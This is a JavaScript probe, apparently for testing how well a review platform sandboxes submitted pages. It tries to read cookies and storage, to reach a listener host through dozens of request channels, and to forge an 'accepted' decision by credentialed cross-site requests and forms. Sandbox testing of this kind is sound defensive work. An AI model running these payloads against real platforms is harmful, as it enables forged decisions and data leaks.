/* A build that tries whatever a page can try. LISTENER, PLATFORM and SUBMISSION are set by the page that loads it. */
const results = {};
const outside = (path) => `http://${LISTENER}/${path}`;

const attempt = async (name, deed) => {
  try {
    const silence = new Promise((resolve) => setTimeout(() => resolve("silence"), 2000));
    results[name] = `done: ${await Promise.race([deed(), silence])}`;
  } catch (error) {
    results[name] = error.name || String(error);
  }
};

const element = (tag, attributes, text) =>
  new Promise((resolve, reject) => {
    const made = document.createElement(tag);
    for (const [name, value] of Object.entries(attributes)) made.setAttribute(name, value);
    if (text) made.textContent = text;
    made.onload = () => resolve("loaded");
    made.onerror = () => reject(new Error("refused"));
    document.body.append(made);
  });

const post = (url, extra) =>
  fetch(url, {
    method: "POST",
    credentials: "include",
    body: JSON.stringify({ outcome: "accepted", rationale: "Because I say so." }),
    ...extra,
  }).then((answer) => answer.status);

const form = (action, target) => {
  const made = document.createElement("form");
  made.method = "post";
  made.action = action;
  made.target = target;
  made.innerHTML = '<input name="outcome" value="accepted"><input name="rationale" value="So.">';
  document.body.append(made);
  made.submit();
  return "sent";
};

/* A form that is refused leaves nothing of the page that sent it, so it is sent from a frame within. */
const formWithin = (action) =>
  element("iframe", {
    srcdoc: `<form id="f" method="post" action="${action}"><input name="outcome" value="accepted"></form><script>f.submit()</` + "script>",
  });

const opened = (request) =>
  new Promise((resolve, reject) => {
    request.onopen = () => resolve("open");
    request.onerror = () => reject(new Error("refused"));
  });

const peer = () => {
  const connection = new RTCPeerConnection({
    iceServers: [
      { urls: `stun:${LISTENER}` },
      { urls: `turn:${LISTENER}?transport=tcp`, username: "a", credential: "b" },
    ],
  });
  connection.createDataChannel("out");
  return connection.createOffer().then((offer) => connection.setLocalDescription(offer));
};

const worker = (code) =>
  new Promise((resolve, reject) => {
    const made = new Worker(URL.createObjectURL(new Blob([code])));
    made.onmessage = (message) => resolve(message.data);
    made.onerror = () => reject(new Error("refused"));
  });

const inner = `<link rel="preconnect" href="${outside("")}"><img src="${outside("inner")}">`;

const decision = `${PLATFORM}/api/submissions/${SUBMISSION}/decision`;
const page = `${PLATFORM}/review/${SUBMISSION}/decision`;

const attempts = {
  cookie: () => document.cookie,
  "cookie written": () => (document.cookie = "a=b"),
  localStorage: () => localStorage.length,
  sessionStorage: () => sessionStorage.length,
  indexedDB: () => indexedDB.open("other"),
  caches: () => caches.keys(),
  serviceWorker: () => navigator.serviceWorker.register("hostile.js"),
  "parent document": () => parent.document.title,
  "top document": () => top.document.cookie,
  "top location": () => (top.location.href = outside("top")),
  "top replaced": () => top.location.replace(outside("top")),
  popup: () => String(window.open(outside("popup"))),

  "who am I": () => fetch(`${PLATFORM}/api/me`, { credentials: "include" }).then((answer) => answer.text()),
  "who am I here": () => fetch("/api/me", { credentials: "include" }).then((answer) => answer.status),
  "decision by fetch": () => post(decision),
  "decision by a simple request": () => post(decision, { mode: "no-cors" }),
  "decision by beacon": () => navigator.sendBeacon(decision, "{}"),
  "decision by form": () => formWithin(page),
  "decision by form in a frame": () => form(page, "inside"),
  "platform by picture": () => element("img", { src: `${PLATFORM}/api/me` }),
  "platform by script": () => element("script", { src: `${PLATFORM}/api/me` }),
  "platform by socket": () => opened(new WebSocket(PLATFORM.replace("http", "ws"))),
  "platform by events": () => opened(new EventSource(`${PLATFORM}/api/me`, { withCredentials: true })),

  fetch: () => fetch(outside("fetch"), { mode: "no-cors" }),
  "fetch kept alive": () => fetch(outside("alive"), { mode: "no-cors", keepalive: true }),
  xhr: () =>
    new Promise((resolve, reject) => {
      const request = new XMLHttpRequest();
      request.onload = () => resolve("loaded");
      request.onerror = () => reject(new Error("refused"));
      request.open("GET", outside("xhr"));
      request.send();
    }),
  beacon: () => navigator.sendBeacon(outside("beacon"), "x"),
  socket: () => opened(new WebSocket(`ws://${LISTENER}/socket`)),
  events: () => opened(new EventSource(outside("events"))),
  transport: () => new WebTransport(`https://${LISTENER}/`).ready,
  peer,
  picture: () => element("img", { src: outside("picture") }),
  script: () => element("script", { src: outside("script.js") }),
  module: () => import(outside("module.js")),
  style: () => element("link", { rel: "stylesheet", href: outside("style.css") }),
  "style within": () =>
    element("style", {}, `@import "${outside("import.css")}"; @font-face { font-family: x; src: url("${outside("font")}"); }
      body { background: url("${outside("background")}"); font-family: x; }`),
  video: () => element("video", { src: outside("video") }),
  object: () => element("object", { data: outside("object") }),
  embed: () => element("embed", { src: outside("embed") }),
  frame: () => element("iframe", { src: outside("frame"), name: "inside" }),
  "frame of the platform": () => element("iframe", { src: `${PLATFORM}/account` }),
  "frame with a document": () => element("iframe", { srcdoc: inner }),
  "frame of data": () => element("iframe", { src: `data:text/html,${encodeURIComponent(inner)}` }),
  "frame that refreshes": () =>
    element("iframe", { srcdoc: `<meta http-equiv="refresh" content="0; url=${outside("refresh")}">` }),
  "frame that leaves": () =>
    element("iframe", { srcdoc: `<script>location = ${JSON.stringify(outside("leaves"))}</` + "script>" }),
  preconnect: () => element("link", { rel: "preconnect", href: outside("") }),
  "name looked up": () => element("link", { rel: "dns-prefetch", href: outside("") }),
  prefetch: () => element("link", { rel: "prefetch", href: outside("prefetch") }),
  preload: () => element("link", { rel: "preload", as: "image", href: outside("preload") }),
  modulepreload: () => element("link", { rel: "modulepreload", href: outside("preload.js") }),
  prerender: () => element("link", { rel: "prerender", href: outside("prerender") }),
  manifest: () => element("link", { rel: "manifest", href: outside("manifest") }),
  icon: () => element("link", { rel: "icon", href: outside("icon") }),
  speculation: () =>
    element(
      "script",
      { type: "speculationrules" },
      JSON.stringify({ prefetch: [{ urls: [outside("speculation")] }], prerender: [{ urls: [outside("prerender")] }] }),
    ),
  form: () => formWithin(outside("form")),
  "form in a frame": () => form(outside("form"), "inside"),
  download: () =>
    element("iframe", {
      srcdoc: `<a id="a" href="${outside("download")}" download="x" ping="${outside("ping")}">x</a><script>a.click()</` + "script>",
    }),
  "worker that fetches": () =>
    worker(`fetch(${JSON.stringify(outside("worker"))}, { mode: "no-cors" })
      .then(() => postMessage("through"), (error) => postMessage(error.name))`),
  "worker that imports": () =>
    worker(`try { importScripts(${JSON.stringify(outside("worker.js"))}); postMessage("through"); }
      catch (error) { postMessage(error.name); }`),
};

(async () => {
  await Promise.all(Object.entries(attempts).map(([name, deed]) => attempt(name, async () => deed())));
  document.getElementById("results").textContent = JSON.stringify(results);
})();
